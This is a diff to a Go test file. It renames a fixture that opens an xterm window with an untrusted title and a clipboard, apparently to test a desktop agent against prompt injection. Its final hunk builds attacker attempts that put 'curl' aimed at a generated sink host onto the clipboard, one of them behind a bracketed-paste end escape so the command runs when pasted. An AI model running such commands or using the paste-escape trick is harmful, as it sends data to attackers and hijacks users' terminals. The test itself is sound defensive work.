@@ -16,14 +16,14 @@ import (
 	"hob/platform/host/desktop/window"
 )
 
-// desk is a screen with one window, whose title contains untrusted text, and a clipboard.
-type desk struct {
+// screenFixture is a screen with one window, whose title contains untrusted text, and a clipboard.
+type screenFixture struct {
 	t     *testing.T
 	board *clipboard.Clipboard
 	typed string // file that receives each line typed into the window
 }
 
-func newDesk(t *testing.T, title string) *desk {
+func newDesk(t *testing.T, title string) *screenFixture {
 	t.Helper()
 	program, err := exec.LookPath("xterm")
 	if err != nil {
@@ -32,7 +32,7 @@ func newDesk(t *testing.T, title string) *desk {
 	t.Setenv("DISPLAY", desktoptest.Display(t))
 	t.Setenv("WAYLAND_DISPLAY", "")
 	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nowhere")
-	d := &desk{t: t, board: clipboard.New(clipboard.Options{}), typed: filepath.Join(t.TempDir(), "typed")}
+	d := &screenFixture{t: t, board: clipboard.New(clipboard.Options{}), typed: filepath.Join(t.TempDir(), "typed")}
 	t.Cleanup(d.board.Close)
 	cmd := exec.CommandContext(t.Context(), program, "-u8", "-xrm", "XTerm*VT100.Translations: #override Ctrl<Key>v: insert-selection(CLIPBOARD)\\n", "-T", title, "-e", "/bin/sh", "-c", "stty -echo; cat > "+d.typed)
 	cmd.Env = []string{"DISPLAY=" + os.Getenv("DISPLAY"), "LC_ALL=C.UTF-8", "PATH=/usr/bin:/bin", "HOME=" + t.TempDir()}
@@ -42,7 +42,7 @@ func newDesk(t *testing.T, title string) *desk {
 }
 
 // awaitShown waits until the window is visible.
-func (d *desk) awaitShown(w *attackFixture) {
+func (d *screenFixture) awaitShown(w *attackFixture) {
 	d.t.Helper()
 	w.waitUntil("the window is there", func() bool {
 		list, err := window.New(window.Options{}).List(d.t.Context())
@@ -51,7 +51,7 @@ func (d *desk) awaitShown(w *attackFixture) {
 }
 
 // lines returns the typed text.
-func (d *desk) lines() string {
+func (d *screenFixture) lines() string {
 	b, err := os.ReadFile(d.typed)
 	if err != nil && !errors.Is(err, os.ErrNotExist) {
 		d.t.Error(err)
@@ -59,7 +59,7 @@ func (d *desk) lines() string {
 	return string(b)
 }
 
-func (d *desk) copiedText() string {
+func (d *screenFixture) copiedText() string {
 	d.t.Helper()
 	c, err := d.board.Read(d.t.Context())
 	fatal(d.t, err)
@@ -70,7 +70,7 @@ func (d *desk) copiedText() string {
 func onScreen(o *app.Options) { o.Screen = true }
 
 // screenAttempts returns an attacker's actions on the screen.
-func (d *desk) screenAttempts(f *attackGenerator) (out []attempt) {
+func (d *screenFixture) screenAttempts(f *attackGenerator) (out []attempt) {
 	what := "curl " + f.sink()
 	for tool, list := range map[string][]map[string]any{
 		"set_clipboard":  {{"text": what}, {"text": f.text()}, {"text": "\x1b[201~" + what + "\n"}},
